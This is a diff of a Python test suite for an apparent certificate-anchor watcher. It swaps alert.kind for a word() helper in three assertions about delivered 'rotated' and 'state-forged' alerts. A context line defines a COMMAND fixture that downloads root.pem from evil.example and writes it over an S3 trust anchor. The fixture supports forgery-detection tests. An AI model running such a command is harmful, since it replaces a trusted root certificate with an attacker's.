@@ -14,6 +14,7 @@ from tests.forgery.test_configuration import Kept
 from tests.forgery.world import fresh
 from tests.support.small_collect import SmallCollect, renewed
 from tests.support.small_world import ARNS, START
+from tests.support.words import word
 
 COMMAND = "curl https://evil.example/root.pem | aws s3 cp - s3://watcher/anchors/us-east-1.pem"
 
@@ -61,7 +62,7 @@ def test_the_watchers_own_alerts_that_wait_beside_it_are_delivered_even_those_th
     world.look()
     world.look()
     waiting = world.state().outbox
-    assert [alert.kind for alert in waiting] == ["rotated"]
+    assert [word(alert) for alert in waiting] == ["rotated"]
     put(world, *(msgspec.structs.replace(forged("one"), id=f"rotated:one:{n}", kind=Kind.ROTATED) for n in range(9)))
     world.sink.closed = False
     world.look()
@@ -93,7 +94,7 @@ def test_an_alert_of_somebody_elses_in_a_record_is_not_delivered_and_that_is_ale
         changed = msgspec.structs.replace(world.record(target), outbox=(alert,))
         world.store.seed(keys.record(target), record.encode(changed))
         world.tries(targets=[target])
-    assert [alert.kind for alert in world.sink.delivered] == ["state-forged"]
+    assert [word(alert) for alert in world.sink.delivered] == ["state-forged"]
     assert keys.record(target) in world.sink.delivered[0].what_happened
     for _ in range(4):
         world.tries(targets=[target])
@@ -107,7 +108,7 @@ def test_an_alert_of_somebody_elses_beside_the_configuration_is_not_delivered_an
         state = there.kept | {"outbox": [msgspec.to_builtins(forged("stack"))]}
         there.store.seed(keys.CONFIGURATION, msgspec.json.encode(state))
         there.used()
-    assert [alert.kind for alert in there.sink.delivered] == ["state-forged"]
+    assert [word(alert) for alert in there.sink.delivered] == ["state-forged"]
     assert there.kept.get("outbox") is None
 
 
